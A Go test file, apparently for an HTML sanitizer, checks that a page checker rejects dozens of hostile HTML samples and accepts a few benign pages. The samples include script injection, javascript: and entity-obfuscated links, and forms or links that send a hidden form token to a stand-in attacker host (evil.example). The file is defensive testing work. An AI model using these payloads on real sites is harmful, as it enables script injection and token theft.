@@ -1,0 +1,100 @@
+package page
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+func around(body string) string {
+	return `<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>t</title><style>p{color:#000}</style></head><body>` + body + `</body></html>`
+}
+
+const token = `<input type="hidden" name="form" value="__FORM__">`
+
+func TestCheckRefusesHostileHTML(t *testing.T) {
+	form := `<form method="post" action="__LINK__/open">` + token + `<button>x</button></form>`
+	for name, doc := range map[string]string{
+		"script":                                 around(`<script>1</script>`),
+		"svg script":                             around(`<svg><script>1</script></svg>`),
+		"event handler":                          around(`<p onclick="x()">a</p>`),
+		"event handler, cased":                   around(`<svg ONLOAD=x()></svg>`),
+		"style attribute":                        around(`<p style="background:url(https://evil.example/)">a</p>`),
+		"javascript link":                        around(`<a href="javascript:alert(1)">a</a>`),
+		"javascript, spaced":                     around("<a href=\" java\tscript:alert(1)\">a</a>"),
+		"javascript, entities":                   around(`<a href="&#106;avascript:alert(1)">a</a>`),
+		"data link":                              around(`<a href="data:text/html,<script>1</script>">a</a>`),
+		"vbscript link":                          around(`<a href="vbscript:x">a</a>`),
+		"relative link":                          around(`<a href="/admin">a</a>`),
+		"scheme-less link":                       around(`<a href="//evil.example/">a</a>`),
+		"svg link by xlink":                      around(`<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>`),
+		"link action by GET":                     around(`<a href="__LINK__/pay">a</a>`),
+		"link escapes":                           around(`<a href="__LINK__/documents/../../x">a</a>`),
+		"link host trick":                        around(`<a href="__LINK__.evil.example/">a</a>`),
+		"foreign image":                          around(`<img src="https://evil.example/x.png" alt="">`),
+		"svg image":                              around(`<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="">`),
+		"srcset":                                 around(`<img srcset="https://evil.example/x.png 1x" alt="">`),
+		"svg image element":                      around(`<svg><image href="https://evil.example/x.png"/></svg>`),
+		"svg use":                                around(`<svg><use href="https://evil.example/x.svg#a"/></svg>`),
+		"svg animation":                          around(`<svg><animate attributeName="href" to="javascript:1"/></svg>`),
+		"foreign object":                         around(`<svg><foreignObject><p>a</p></foreignObject></svg>`),
+		"fill from elsewhere":                    around(`<svg><path fill="url(https://evil.example/)" d=""/></svg>`),
+		"iframe":                                 around(`<iframe src="https://evil.example/"></iframe>`),
+		"srcdoc":                                 around(`<iframe srcdoc="<script>1</script>"></iframe>`),
+		"object":                                 around(`<object data="https://evil.example/"></object>`),
+		"embed":                                  around(`<embed src="https://evil.example/">`),
+		"base":                                   strings.Replace(around(""), "<title>", `<base href="https://evil.example/"><title>`, 1),
+		"refresh":                                strings.Replace(around(""), "<title>", `<meta http-equiv="refresh" content="0;url=https://evil.example/"><title>`, 1),
+		"stylesheet":                             strings.Replace(around(""), "<title>", `<link rel="stylesheet" href="https://evil.example/"><title>`, 1),
+		"open graph":                             strings.Replace(around(""), "<title>", `<meta name="og:image" content="https://evil.example/"><title>`, 1),
+		"import":                                 strings.Replace(around(""), "p{color", `@import "https://evil.example/";p{color`, 1),
+		"style url":                              strings.Replace(around(""), "p{color", `p{background:URL( "https://evil.example/")}p{color`, 1),
+		"style url, escaped":                     strings.Replace(around(""), "p{color", `p{background:\75rl(https://evil.example/)}p{color`, 1),
+		"second style":                           around(`<style>p{}</style>`),
+		"template":                               around(`<template><script>1</script></template>`),
+		"noscript":                               around(`<noscript><p>a</p></noscript>`),
+		"comment":                                around(`<!--[if IE]><script>1</script><![endif]-->`),
+		"foreign form":                           around(`<form method="post" action="https://evil.example/">` + token + `</form>`),
+		"form without action":                    around(`<form method="post">` + token + `</form>`),
+		"form to another step":                   around(`<form method="post" action="__LINK__/admin">` + token + `</form>`),
+		"form by GET":                            around(`<form action="__LINK__/open">` + token + `</form>`),
+		"form without token":                     around(`<form method="post" action="__LINK__/open"><button>x</button></form>`),
+		"form with two tokens":                   around(`<form method="post" action="__LINK__/open">` + token + token + `</form>`),
+		"token by GET form":                      around(form + `<a href="https://evil.example/?__FORM__">a</a>`),
+		"token sent elsewhere, counts made even": around(strings.Replace(form, "__FORM__", "&#95;_FORM__", 1) + `<a href="https://evil.example/?__FORM__">a</a>`),
+		"link sent elsewhere, counts made even":  around(strings.Replace(form, "__LINK__", "&#95;_LINK__", 1) + `<a href="https://evil.example/?__LINK__">a</a>`),
+		"referrer":                               strings.Replace(around(""), "<title>", `<meta name="referrer" content="unsafe-url"><title>`, 1),
+		"token in a text":                        around(form + `<p>__FORM__</p>`),
+		"visible token":                          around(`<form method="post" action="__LINK__/open"><input name="form" value="__FORM__"></form>`),
+		"formaction":                             around(`<form method="post" action="__LINK__/open">` + token + `<button formaction="https://evil.example/">x</button></form>`),
+		"control of a form":                      around(`<form id="a" method="post" action="__LINK__/open">` + token + `</form><button form="a">x</button>`),
+		"file upload":                            around(`<form method="post" action="__LINK__/open">` + token + `<input type="file"></form>`),
+		"password":                               around(`<form method="post" action="__LINK__/open">` + token + `<input type="password" name="p"></form>`),
+		"no doctype":                             `<html><body>a</body></html>`,
+		"not UTF-8":                              around("\xff"),
+		"NUL":                                    around("\x00"),
+		"too large":                              around(strings.Repeat("a", MaxHTML)),
+		"custom element":                         around(`<x-y>a</x-y>`),
+		"math":                                   around(`<math><mtext>a</mtext></math>`),
+		"frameset":                               `<!doctype html><html><frameset><frame src="https://evil.example/"></frameset></html>`,
+	} {
+		_, err := check([]byte(doc))
+		require.Error(t, err, name)
+		require.NotContains(t, err.Error(), "evil.example", name)
+	}
+}
+
+func TestCheckTakesWhatAPageNeeds(t *testing.T) {
+	for name, body := range map[string]string{
+		"links":   `<a href="tel:0000000000">a</a><a href="https://example.jp/x?y=1" rel="noopener" target="_blank">b</a><a href="#q1">c</a><a href="__LINK__">d</a><a href="__LINK__/documents/notice.pdf">e</a>`,
+		"form":    `<form method="post" action="__LINK__/identify">` + token + `<label for="a">生年月日</label><input type="text" id="a" name="birth_date" inputmode="numeric" autocomplete="bday" maxlength="20" required aria-describedby="b"><button>認証</button></form>`,
+		"barcode": `<svg viewBox="0 0 308 96" preserveAspectRatio="none" shape-rendering="crispEdges" role="img" aria-label="x"><path fill="#000" d="M0 0h1v1z"/></svg>`,
+		"image":   `<img src="data:image/png;base64,iVBORw0KGgo=" alt="">`,
+		"nothing": ``,
+	} {
+		style, err := check([]byte(around(body)))
+		require.NoError(t, err, name)
+		require.NotEmpty(t, style)
+	}
+}
